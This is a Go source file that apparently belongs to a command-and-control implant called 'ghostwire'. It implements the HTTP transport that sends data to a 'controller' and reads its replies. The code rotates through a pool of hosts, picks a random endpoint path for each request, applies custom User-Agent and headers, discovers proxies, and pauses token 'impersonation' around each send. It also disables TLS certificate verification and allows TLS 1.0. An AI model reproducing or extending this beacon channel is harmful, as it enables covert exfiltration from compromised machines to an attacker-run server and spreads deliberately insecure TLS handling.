package transport

import (
	"bytes"
	"context"
	"crypto/tls"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strings"

	"github.com/rs/zerolog/log"

	"ghostwire/pkg/config"
	"ghostwire/pkg/hostpool"
	"ghostwire/pkg/proxy"
)

// respChunkSize is the fixed read size used to accumulate response
// bodies.
const respChunkSize = 1024

// HTTPCarrier issues one request per send against the active host from
// the pool. Failed attempts are charged to that host, which eventually
// rotates it out; rotation in a multi-host pool also invalidates the
// cached proxy configuration.
type HTTPCarrier struct {
	cfg      *config.HTTPConfig
	pool     *hostpool.Pool
	resolver *proxy.Resolver
	tokens   TokenGuard
	rand     func() uint32

	client     *http.Client
	fixedProxy *url.URL
	connected  bool
}

// NewHTTPCarrier wires the carrier to its pool and proxy resolver. The
// pool's rotation hook is pointed at the resolver so the next send after
// a rotation re-runs proxy discovery.
func NewHTTPCarrier(cfg *config.HTTPConfig, pool *hostpool.Pool, resolver *proxy.Resolver, tokens TokenGuard, rand func() uint32) (*HTTPCarrier, error) {
	c := &HTTPCarrier{
		cfg:      cfg,
		pool:     pool,
		resolver: resolver,
		tokens:   tokens,
		rand:     rand,
	}

	if cfg.Proxy != nil {
		u, err := url.Parse(cfg.Proxy.URL)
		if err != nil {
			return nil, fmt.Errorf("proxy url: %w", err)
		}
		if cfg.Proxy.Username != "" {
			u.User = url.UserPassword(cfg.Proxy.Username, cfg.Proxy.Password)
		}
		c.fixedProxy = u
	}

	pool.OnRotate(resolver.Invalidate)

	return c, nil
}

// Send performs one full request/response round trip against the active
// host. Impersonation is paused for the duration of the network call and
// restored on every exit path. On failure the active host is advanced
// through the pool's failure accounting.
func (c *HTTPCarrier) Send(ctx context.Context, data []byte) ([]byte, byte) {
	c.tokens.Drop()
	defer c.tokens.Restore()

	host := c.pool.Active()
	if host == nil {
		log.Warn().Msg("no hosts left to use")
		return nil, ErrExhausted
	}

	resp, code := c.attempt(ctx, host, data)
	if code != ErrNone {
		c.pool.ReportFailure(host)
	}

	return resp, code
}

// attempt runs the per-send state machine: ensure session, build request,
// send, classify status, accumulate body.
func (c *HTTPCarrier) attempt(ctx context.Context, host *hostpool.Entry, data []byte) ([]byte, byte) {
	if c.client == nil {
		if code := c.openSession(); code != ErrNone {
			return nil, code
		}
	}

	endpoint := c.endpointFor(host)

	req, err := http.NewRequestWithContext(ctx, c.cfg.Method, endpoint, bytes.NewReader(data))
	if err != nil {
		log.Debug().Err(err).Str("endpoint", endpoint).Msg("building request failed")
		return nil, ErrTransportError
	}

	c.attachHeaders(req)

	resp, err := c.client.Do(req)
	if err != nil {
		if errors.Is(err, context.Canceled) {
			return nil, ErrContextCanceled
		}
		if isUnreachable(err) {
			c.connected = false
		}
		log.Debug().Err(err).Str("host", host.Address).Int("port", host.Port).
			Msg("request round trip failed")
		return nil, ErrTransportError
	}
	defer resp.Body.Close()

	// The controller answers exactly 200 when it recognizes us. Anything
	// else counts as a failed attempt even though a response came back.
	if resp.StatusCode != http.StatusOK {
		log.Debug().Int("status", resp.StatusCode).Msg("unexpected response status")
		return nil, ErrTransportError
	}

	return accumulateBody(resp.Body), ErrNone
}

// openSession lazily creates the HTTP client. A fixed proxy is applied
// directly; otherwise the proxy callback consults the resolver, which
// discovers at most once per rotation epoch.
func (c *HTTPCarrier) openSession() byte {
	var tlsCfg *tls.Config
	if c.cfg.Secure {
		// The controller certificate is self-issued, so chain, name and
		// date checks cannot pass. Accept the widest protocol range the
		// runtime still offers.
		tlsCfg = &tls.Config{
			InsecureSkipVerify: true,
			MinVersion:         tls.VersionTLS10,
			MaxVersion:         tls.VersionTLS13,
		}
	}

	proxyFn := c.proxyFunc()

	c.client = &http.Client{
		Transport: &http.Transport{
			TLSClientConfig: tlsCfg,
			Proxy:           proxyFn,
		},
	}
	c.connected = true

	return ErrNone
}

func (c *HTTPCarrier) proxyFunc() func(*http.Request) (*url.URL, error) {
	if c.fixedProxy != nil {
		return http.ProxyURL(c.fixedProxy)
	}

	return func(req *http.Request) (*url.URL, error) {
		return c.resolver.ProxyFor(req.URL.String()), nil
	}
}

// endpointFor picks one of the configured endpoint paths uniformly at
// random for this request, independent of host rotation.
func (c *HTTPCarrier) endpointFor(host *hostpool.Entry) string {
	uri := c.cfg.URIs[c.rand()%uint32(len(c.cfg.URIs))]

	scheme := "http"
	if c.cfg.Secure {
		scheme = "https"
	}

	return fmt.Sprintf("%s://%s%s", scheme, net.JoinHostPort(host.Address, fmt.Sprint(host.Port)), uri)
}

// attachHeaders applies the configured custom headers. A malformed header
// is logged and skipped; the request still proceeds.
func (c *HTTPCarrier) attachHeaders(req *http.Request) {
	if c.cfg.UserAgent != "" {
		req.Header.Set("User-Agent", c.cfg.UserAgent)
	}

	for k, v := range c.cfg.Headers {
		if k == "" || strings.ContainsAny(k, " :") {
			log.Debug().Str("header", k).Msg("skipping malformed header")
			continue
		}
		req.Header.Set(k, v)
	}
}

// accumulateBody reads the response to completion in fixed-size chunks
// into a growable buffer. A read error ends the loop; whatever was
// already accumulated is returned as-is.
func accumulateBody(r io.Reader) []byte {
	var out []byte
	buf := make([]byte, respChunkSize)

	for {
		n, err := r.Read(buf)
		if n > 0 {
			out = append(out, buf[:n]...)
		}
		if err != nil || n == 0 {
			break
		}
	}

	return out
}

// isUnreachable reports whether err means the destination itself cannot
// be reached, as opposed to a failure inside an established exchange.
func isUnreachable(err error) bool {
	var dnsErr *net.DNSError
	if errors.As(err, &dnsErr) {
		return true
	}

	var opErr *net.OpError
	if errors.As(err, &opErr) && opErr.Op == "dial" {
		return true
	}

	return false
}

// Recv is not used by the HTTP carrier; responses arrive on Send.
func (c *HTTPCarrier) Recv(ctx context.Context) ([]byte, byte) {
	return nil, ErrNoData
}

// Connected reports whether the session looks live. It turns false when
// a send hits an unreachable destination.
func (c *HTTPCarrier) Connected() bool {
	return c.connected
}

// Close releases the session.
func (c *HTTPCarrier) Close() {
	if c.client != nil {
		c.client.CloseIdleConnections()
		c.client = nil
	}
	c.connected = false
}
